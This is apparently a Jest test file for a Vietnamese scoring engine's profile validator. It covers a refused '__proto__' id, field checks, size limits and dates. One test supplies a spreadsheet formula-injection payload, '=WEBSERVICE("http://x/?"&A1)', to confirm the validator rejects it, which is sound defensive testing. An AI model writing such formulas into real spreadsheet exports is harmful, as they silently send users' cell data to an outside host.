/** The profile schema refuses what would break the engine's records, with a Vietnamese message naming the place. */
import { ProfileError, parseProfile, profileProblems, versionText, type ProfileInput } from "../../src/model/profile";
import { score } from "../../src/engine";

const base: ProfileInput = {
  id: "thu",
  name: "Thử",
  version: "1",
  source: "thử",
  basis: "indicators",
  groups: [{ id: "A", label: "Nhóm A", max: 10 }],
  indicators: [{ id: "a1", label: "A1", group: "A", max: 10 }],
};

describe("profile ids", () => {
  test("a group or indicator id of __proto__ is refused, naming where", () => {
    expect(() => parseProfile({ ...base, groups: [{ id: "__proto__", label: "X", max: 10 }] })).toThrow(/groups\[0\]\.id: mã này không dùng được/);
    expect(() => parseProfile({ ...base, indicators: [{ id: "__proto__", label: "X", group: "A", max: 10 }] })).toThrow(/indicators\[0\]\.id: mã này không dùng được/);
  });

  test("ordinary ids, including JavaScript words, are accepted", () => {
    const profile = parseProfile({ ...base, groups: [{ id: "constructor", label: "X", max: 10 }], indicators: [{ id: "toString", label: "T", group: "constructor", max: 10 }] });
    const row = { row: 5, name: "Xã A", key: "xa a", code: null, level: null, aggregate: false, values: { "toString.numerator": 1, "toString.denominator": 4 } };
    const [unit] = score([row], profile).units;
    expect(Object.keys(unit.groups)).toEqual(["constructor"]);
    expect(unit.groups.constructor).toBe(2.5);
    expect(unit.indicators.toString).toEqual({ ratio: 25, points: 2.5 });
  });
});

describe("profile problems, in Vietnamese with their path", () => {
  const withBands = (bands: unknown[]) => ({ ...base, total: { max: 10 }, rating: { bands } });

  test("a band's lower bound outside 0–100 or not a number names the band", () => {
    const bands = [
      { min: 90, key: "a", label: "A" },
      { min: 50, key: "b", label: "B" },
      { min: "không", key: "c", label: "C" },
      { min: 120, key: "d", label: "D" },
    ];
    expect(profileProblems(withBands(bands)).map((p) => `${p.where}: ${p.message}`)).toEqual([
      "rating.bands[2].min: phải là số từ 0 đến 100",
      "rating.bands[3].min: phải là số từ 0 đến 100",
    ]);
  });

  test("missing fields, unknown fields, wrong kinds and broken references are each named", () => {
    const problems = profileProblems({
      id: "Thu Nghiem",
      name: "Thử",
      source: "thử",
      basis: "diem",
      groups: [{ id: "A", label: "Nhóm A", max: 10 }, { id: "A", label: "Nhóm A lần hai", max: 5 }],
      indicators: [{ id: "a1", label: "A1", group: "B", max: 10, tolerence: 1 }],
    });
    const text = problems.map((p) => `${p.where}: ${p.message}`);
    expect(text).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^id: chỉ gồm chữ thường không dấu/),
        "version: thiếu (bắt buộc phải có)",
        expect.stringMatching(/^basis: phải là "indicators"/),
        expect.stringMatching(/^indicators\[0\]: không có mục “tolerence”/),
      ]),
    );
    // References are checked once the shape is right.
    const refs = profileProblems({ ...base, groups: [{ id: "A", label: "A", max: 10 }, { id: "A", label: "A2", max: 5 }], indicators: [{ id: "a1", label: "A1", group: "B", max: 10 }] });
    expect(refs.map((p) => `${p.where}: ${p.message}`)).toEqual(["groups[1].id: mã nhóm “A” bị trùng", "indicators[0].group: không có nhóm mã “B” trong \"groups\""]);
  });

  test("sizes are bounded: 100,000 indicators are refused at once, not scored", () => {
    const indicators = Array.from({ length: 100_000 }, (_, i) => ({ id: `c${i}`, label: "C", group: "A", max: 1 }));
    const started = Date.now();
    const problems = profileProblems({ ...base, indicators });
    expect(problems.map((p) => `${p.where}: ${p.message}`)).toContain("indicators: nhiều quá 200 mục");
    expect(Date.now() - started).toBeLessThan(5000);
    expect(profileProblems({ ...base, name: "x".repeat(5000) })).toEqual([expect.objectContaining({ where: "name", message: "dài quá 200 ký tự" })]);
  });

  test("a text that would be written to a cell may not start with = (Excel would run it as a formula)", () => {
    const hostile = '=WEBSERVICE("http://x/?"&A1)';
    const problems = profileProblems({
      ...base,
      name: hostile,
      groups: [{ id: "A", label: " =A1", max: 10 }],
      rating: { on: "total", bands: [{ min: 0, key: "x", label: hostile }] },
    } as ProfileInput);
    const lines = problems.map((p) => `${p.where}: ${p.message}`);
    expect(lines).toEqual(expect.arrayContaining(["name: không được bắt đầu bằng dấu =", "groups[0].label: không được bắt đầu bằng dấu =", "rating.bands[0].label: không được bắt đầu bằng dấu ="]));
    expect(profileProblems({ ...base, name: "Điểm = tổng các nhóm" })).toEqual([]);
  });

  test("a valid method has no problems and ProfileError lists every line", () => {
    expect(profileProblems(base)).toEqual([]);
    try {
      parseProfile({ ...base, basis: "x", change: "có" }, "Tệp thu.json");
      throw new Error("không ném lỗi");
    } catch (e) {
      expect(e).toBeInstanceOf(ProfileError);
      expect((e as Error).message).toMatch(/^Tệp thu\.json không hợp lệ:\n {2}basis: .*\n {2}change: phải là true hoặc false$/);
    }
  });
});

describe("version and period of validity", () => {
  test("dates are real calendar dates, the end not before the start, and say so in Vietnamese", () => {
    expect(profileProblems({ ...base, validFrom: "2023-02-30" })).toEqual([expect.objectContaining({ where: "validFrom", message: 'phải là ngày dạng năm-tháng-ngày, ví dụ "2025-01-01"' })]);
    expect(profileProblems({ ...base, validFrom: "2025-01-01", validTo: "2024-12-31" })).toEqual([expect.objectContaining({ where: "validTo", message: "ngày hết hiệu lực trước ngày bắt đầu áp dụng" })]);
    const p = parseProfile({ ...base, validFrom: "2025-01-01", validTo: "2025-12-31" });
    expect(versionText(p)).toBe("phiên bản 1, áp dụng từ 01/01/2025 đến 31/12/2025");
    expect(versionText(parseProfile(base))).toBe("phiên bản 1");
  });
});
